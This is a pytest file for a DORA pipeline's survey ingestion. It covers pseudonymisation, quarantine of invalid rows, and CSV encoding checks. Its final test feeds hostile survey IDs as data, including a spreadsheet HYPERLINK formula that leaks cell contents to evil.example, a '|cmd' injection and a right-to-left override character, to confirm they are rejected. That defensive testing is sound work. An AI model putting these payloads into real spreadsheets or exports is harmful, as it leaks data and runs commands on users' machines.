"""The survey source against a real Postgres table in the portal plugin's shape and CSV exports."""

from __future__ import annotations

import hashlib
from datetime import UTC, date, datetime, timedelta

import psycopg
import pytest

from dora_pipeline import privacy
from dora_pipeline.pipeline import extract_partition
from dora_pipeline.sources import SourceError, get_source
from dora_pipeline.sources.survey import SurveySource, score
from dora_pipeline.warehouse import Warehouse

from conftest import settings_with

DAY = date(2025, 3, 3)
D0 = datetime(2025, 3, 3, tzinfo=UTC)

# The portal survey plugin's table, as the tutorial creates it (no score constraints:
# the pipeline, not the portal, decides what is valid).
PORTAL_TABLE = """
create schema if not exists {schema};
create table {schema}.{table} (
    id            bigserial primary key,
    user_ref      text not null,
    group_ref     text not null,
    survey_id     text not null,
    submitted_at  timestamptz not null default now(),
    satisfaction  integer,
    flow_state    integer,
    blockers_text text
)
"""


def _portal(
    url: str, rows: list[tuple], schema: str = "dora", table: str = "survey_responses"
) -> None:
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(PORTAL_TABLE.format(schema=schema, table=table))
        with conn.cursor() as cur:
            cur.executemany(
                f"insert into {schema}.{table} (user_ref, group_ref, survey_id, submitted_at, satisfaction, "
                "flow_state, blockers_text) values (%s, %s, %s, %s, %s, %s, %s)",
                rows,
            )


def _csv(folder, name: str, text: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")


def _dump_raw(conn) -> str:
    """Every row of every dora_raw table, as text."""
    tables = [
        r[0]
        for r in conn.execute(
            "select table_name from information_schema.tables where table_schema = 'dora_raw'"
        )
    ]
    return "\n".join(
        str(row)
        for t in tables
        for row in conn.execute(f"select t::text from dora_raw.{t} t").fetchall()
    )


def test_score_keeps_what_is_not_an_integer():
    assert [score(v) for v in (4, "4", " 5 ", 3.0)] == [4, 4, 5, 3]
    assert [score(v) for v in ("3.5", 3.5, "five", "", None, True, float("inf"))] == [
        "3.5",
        3.5,
        "five",
        "",
        None,
        True,
        float("inf"),
    ]


def test_skipped_without_a_table_or_folder(settings):
    source = get_source("survey")
    assert isinstance(source, SurveySource)
    assert source.skip_reason(settings) == "neither SURVEY_DATABASE_URL nor SURVEY_CSV_DIR is set"
    assert extract_partition(Warehouse(settings), source, DAY) is None


def test_table_responses_of_the_day_land_pseudonymised(settings, database_url):
    noon = D0 + timedelta(hours=12)
    _portal(
        database_url,
        [
            ("user:default/jane", "team-a", "q1-2025", noon, 4, 5, "flaky CI"),
            (
                "user:default/jane",
                "team-a",
                "q1-2025",
                noon + timedelta(hours=2),
                5,
                5,
                None,
            ),  # re-submitted
            ("kim", "Group:Platform/Team-B", "q1-2025", noon, 3, 2, ""),
            ("user:default/lee", "team-a", "q1-2025", noon, 0, 3, None),
            ("user:default/max", "team-a", "q1-2025", noon, 4, 6, None),
            (
                "user:default/old",
                "team-a",
                "q1-2025",
                D0 - timedelta(seconds=1),
                4,
                4,
                None,
            ),  # the day before
            (
                "user:default/new",
                "team-a",
                "q1-2025",
                D0 + timedelta(days=1),
                4,
                4,
                None,
            ),  # the day after
        ],
    )
    warehouse = Warehouse(settings_with(settings, SURVEY_DATABASE_URL=database_url))
    result = extract_partition(warehouse, get_source("survey"), DAY)
    assert result.rows == {"survey_responses": 3}
    assert result.quarantined == 2

    key = privacy.pseudonym_key(warehouse.settings)
    jane = privacy.pseudonymise("user:default/jane", key)
    with warehouse.connection() as conn:
        rows = conn.execute(
            "select respondent, group_ref, survey_id, submitted_at, satisfaction, flow_state, blockers_text, "
            "partition_date from dora_raw.survey_responses order by submitted_at, group_ref"
        ).fetchall()
        reasons = sorted(r[0] for r in conn.execute("select reason from dora_raw.quarantine"))
        raw = _dump_raw(conn)
    assert rows == [
        (jane, "group:default/team-a", "q1-2025", noon, 4, 5, "flaky CI", DAY),
        (
            privacy.pseudonymise("user:default/kim", key),
            "group:platform/team-b",
            "q1-2025",
            noon,
            3,
            2,
            None,
            DAY,
        ),
        (jane, "group:default/team-a", "q1-2025", noon + timedelta(hours=2), 5, 5, None, DAY),
    ]
    assert reasons == [
        "flow_state: must be an integer 1-5, got 6",
        "satisfaction: must be an integer 1-5, got 0",
    ]
    # keyed: not the plain hash anyone could recompute
    assert jane != hashlib.sha256(b"user:default/jane").hexdigest()[:32]
    assert jane not in (
        hashlib.sha256(b"user:default/jane").hexdigest(),
        hashlib.sha256(b"jane").hexdigest(),
    )
    for name in ("jane", "kim", "lee", "max"):
        assert name not in raw


def test_csv_exports_quarantine_invalid_scores_and_keep_no_identity(
    settings, database_url, tmp_path
):
    folder = tmp_path / "exports"
    _csv(
        folder,
        "2025-03.csv",
        "\ufeff"
        + "\n".join(
            [
                "User_Ref,group_ref,survey_id,submitted_at,satisfaction,flow_state,blockers_text",
                'user:default/ana,team-a,q1-2025,2025-03-03T09:00:00Z,5,4,"slow reviews, long queues"',
                "user:default/ben,team-a,q1-2025,2025-03-03T10:00:00+02:00,3.5,4,",
                "user:default/cid,team-a,q1-2025,2025-03-03 11:00:00,five,4,",
                "user:default/dee,team-a,q1-2025,2025-03-03T12:00:00Z,,4,",
                "user:default/eve,,q1-2025,2025-03-03T13:00:00Z,4,4,",
                "user:default/fay,team-b,q1-2025,2025-03-04T01:00:00+02:00,4,4,",  # 23:00 UTC on the 3rd
                "user:default/gus,team-b,q1-2025,2025-03-04T09:00:00Z,4,4,",  # the 4th: the latest in the file
                "user:default/hal,team-b,q1-2025,yesterday,4,4,",
            ]
        )
        + "\n",
    )
    _csv(folder, "notes.txt", "not a survey export")
    warehouse = Warehouse(settings_with(settings, SURVEY_CSV_DIR=str(folder)))
    source = get_source("survey")
    result = extract_partition(warehouse, source, DAY)
    assert result.rows == {"survey_responses": 2}  # ana and fay
    assert result.quarantined == 4
    with warehouse.connection() as conn:
        reasons = sorted(r[0] for r in conn.execute("select reason from dora_raw.quarantine"))
        stored = conn.execute(
            "select blockers_text, submitted_at from dora_raw.survey_responses order by 2"
        ).fetchall()
        day_one_raw = _dump_raw(conn)
    assert reasons == [
        "group_ref: is missing",
        "satisfaction: must be an integer 1-5, got ''",
        "satisfaction: must be an integer 1-5, got '3.5'",
        "satisfaction: must be an integer 1-5, got 'five'",
    ]
    assert stored == [
        ("slow reviews, long queues", D0 + timedelta(hours=9)),
        (None, D0 + timedelta(hours=23)),
    ]

    # The row without a readable time is quarantined once: on the file's latest day.
    result_4th = extract_partition(warehouse, source, date(2025, 3, 4))
    assert result_4th.rows == {"survey_responses": 1} and result_4th.quarantined == 1
    with warehouse.connection() as conn:
        assert conn.execute(
            "select reason, record_key from dora_raw.quarantine where partition_date = '2025-03-04'"
        ).fetchall() == [("submitted_at: is not a timestamp: 'yesterday'", "2025-03.csv:9")]
        raw = _dump_raw(conn)
    for name in ("ana", "ben", "cid", "dee", "eve", "fay", "gus", "hal"):
        assert f"user:default/{name}" not in day_one_raw + raw


def test_table_and_csv_together_store_each_response_once(settings, database_url, tmp_path):
    noon = D0 + timedelta(hours=12)
    _portal(
        database_url,
        [("user:default/jane", "team-a", "q1", noon, 4, 4, None)],
        schema="portal",
        table="answers",
    )
    folder = tmp_path / "csv"
    _csv(
        folder,
        "export.csv",
        "user_ref,group_ref,survey_id,submitted_at,satisfaction,flow_state\n"
        "user:default/jane,group:default/team-a,q1,2025-03-03T12:00:00Z,4,4\n"
        "jane,team-a,q1,2025-03-03T15:00:00Z,2,2\n",
    )
    warehouse = Warehouse(
        settings_with(
            settings,
            SURVEY_DATABASE_URL=database_url,
            SURVEY_TABLE="portal.answers",
            SURVEY_CSV_DIR=str(folder),
        )
    )
    result = extract_partition(warehouse, get_source("survey"), DAY)
    assert result.rows == {"survey_responses": 2}
    with warehouse.connection() as conn:
        assert conn.execute(
            "select count(distinct respondent) from dora_raw.survey_responses"
        ).fetchone() == (1,)
    # rerun: the same rows
    assert extract_partition(warehouse, get_source("survey"), DAY).rows == {"survey_responses": 2}


def test_the_key_changes_the_pseudonym(settings, database_url):
    _portal(
        database_url, [("user:default/jane", "team-a", "q1", D0 + timedelta(hours=1), 4, 4, None)]
    )
    seen = []
    for key in ("key-one", "key-two"):
        s = settings_with(settings, SURVEY_DATABASE_URL=database_url, DORA_PSEUDONYM_KEY=key)
        records = get_source("survey").extract(DAY, _ctx(s))
        seen.append(records[0].respondent)
    assert seen[0] != seen[1]


def _ctx(settings):
    from dora_pipeline.sources import ExtractContext

    return ExtractContext(settings=settings, warehouse_url="")


@pytest.mark.parametrize(
    ("env", "message"),
    [
        (
            {"SURVEY_TABLE": "dora.no_such_table"},
            'cannot read dora.no_such_table at .*relation "dora.no_such_table" does not exist',
        ),
        (
            {"SURVEY_CSV_DIR": "/nonexistent/survey"},
            "SURVEY_CSV_DIR /nonexistent/survey is not a folder",
        ),
    ],
)
def test_unreadable_sources_fail_clearly(settings, database_url, env, message):
    base = {"SURVEY_DATABASE_URL": database_url} if "SURVEY_TABLE" in env else {}
    warehouse = Warehouse(settings_with(settings, **base, **env))
    with pytest.raises(SourceError, match=message):
        extract_partition(warehouse, get_source("survey"), DAY)


def test_a_wrong_password_is_not_shown(settings, database_url):
    from psycopg.conninfo import conninfo_to_dict, make_conninfo

    params = conninfo_to_dict(database_url)
    params.update(user="survey_reader_x", password="hunter2-SECRET")
    warehouse = Warehouse(settings_with(settings, SURVEY_DATABASE_URL=make_conninfo(**params)))
    with pytest.raises(SourceError, match="survey: cannot read") as excinfo:
        extract_partition(warehouse, get_source("survey"), DAY)
    assert "hunter2-SECRET" not in str(excinfo.value)


HEADER = "user_ref,group_ref,survey_id,submitted_at,satisfaction,flow_state,blockers_text\n"
GOOD_ROW = "user:default/ann,team-a,q1-2025,2025-03-03T09:00:00Z,4,4,\n"


def _quarantine(warehouse) -> list[tuple[str, str]]:
    with warehouse.connection() as conn:
        return conn.execute(
            "select record_key, reason from dora_raw.quarantine order by 1"
        ).fetchall()


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        (
            "wrong.csv",
            b"name,score\njane,4\n",
            "file: wrong.csv lacks the column(s) user_ref, group_ref, survey_id, submitted_at, satisfaction, "
            "flow_state; none of its rows was loaded",
        ),
        (
            "two-boms.csv",
            b"\xef\xbb\xbf\xef\xbb\xbf" + HEADER.encode() + GOOD_ROW.encode(),
            "file: two-boms.csv starts with two UTF-8 byte-order marks (BOM); save it once, as UTF-8; "
            "none of its rows was loaded",
        ),
        (
            "latin1.csv",
            HEADER.encode() + b"user:default/a,team-a,q1,2025-03-03T09:00:00Z,4,4,caf\xe9\n",
            "file: latin1.csv is not UTF-8: byte 0xe9 at offset 133 (line 2); export it as UTF-8; "
            "none of its rows was loaded",
        ),
        (
            "utf16.csv",
            (HEADER + GOOD_ROW).encode("utf-16"),
            "file: utf16.csv is UTF-16 (it starts with a UTF-16 byte-order mark); export it as UTF-8; "
            "none of its rows was loaded",
        ),
        (
            "\x1b[2Jnames.csv",
            b"name\nx\n",
            "file: \\x1b[2Jnames.csv lacks the column(s) user_ref, group_ref, survey_id, submitted_at, "
            "satisfaction, flow_state; none of its rows was loaded",
        ),
    ],
)
def test_a_bad_csv_file_is_quarantined_naming_its_problem_and_the_other_files_load(
    settings, tmp_path, name, content, reason
):
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / name).write_bytes(content)
    (folder / "good.csv").write_text(HEADER + GOOD_ROW, encoding="utf-8")
    warehouse = Warehouse(settings_with(settings, SURVEY_CSV_DIR=str(folder)))
    result = extract_partition(warehouse, get_source("survey"), DAY)
    assert result.rows == {"survey_responses": 1} and result.quarantined == 1
    assert [r for _, r in _quarantine(warehouse)] == [reason]


def test_one_huge_cell_quarantines_its_row_only(settings, tmp_path):
    folder = tmp_path / "csv"
    huge = "x" * 200_000
    _csv(
        folder,
        "export.csv",
        HEADER + GOOD_ROW + f"user:default/bob,team-a,q1-2025,2025-03-03T10:00:00Z,4,4,{huge}\n"
        f"user:default/cy,team-a,{huge},2025-03-03T11:00:00Z,4,4,\n",
    )
    warehouse = Warehouse(settings_with(settings, SURVEY_CSV_DIR=str(folder)))
    result = extract_partition(warehouse, get_source("survey"), DAY)
    assert result.rows == {"survey_responses": 1} and result.quarantined == 2
    assert sorted(r for _, r in _quarantine(warehouse)) == [
        "blockers_text: is longer than 10000 characters",
        "survey_id: is longer than 200 characters",
    ]


def test_survey_ids_that_a_spreadsheet_would_run_are_quarantined(settings, tmp_path):
    folder = tmp_path / "csv"
    hostile = [
        '"=HYPERLINK(""https://evil.example/?leak=""&A1,""open"")"',
        "+SUM(1)|cmd",
        "@SUM(A1)",
        "-1+1",
        "q1\u202e2025",
    ]
    _csv(
        folder,
        "export.csv",
        HEADER
        + GOOD_ROW
        + "".join(
            f"user:default/u{i},team-a,{sid},2025-03-03T1{i}:00:00Z,4,4,\n"
            for i, sid in enumerate(hostile)
        ),
    )
    warehouse = Warehouse(settings_with(settings, SURVEY_CSV_DIR=str(folder)))
    result = extract_partition(warehouse, get_source("survey"), DAY)
    assert result.rows == {"survey_responses": 1} and result.quarantined == len(hostile)
    reasons = sorted(r for _, r in _quarantine(warehouse))
    assert [r.split(",")[0] for r in reasons if "formula" in r] == [
        "survey_id: starts with '+'",
        "survey_id: starts with '-'",
        "survey_id: starts with '='",
        "survey_id: starts with '@'",
    ]
    assert any(r.startswith("survey_id: is not a name") and "\\u202e" in r for r in reasons)
    with warehouse.connection() as conn:
        assert conn.execute(
            "select array_agg(distinct survey_id) from dora_raw.survey_responses"
        ).fetchone()[0] == ["q1-2025"]
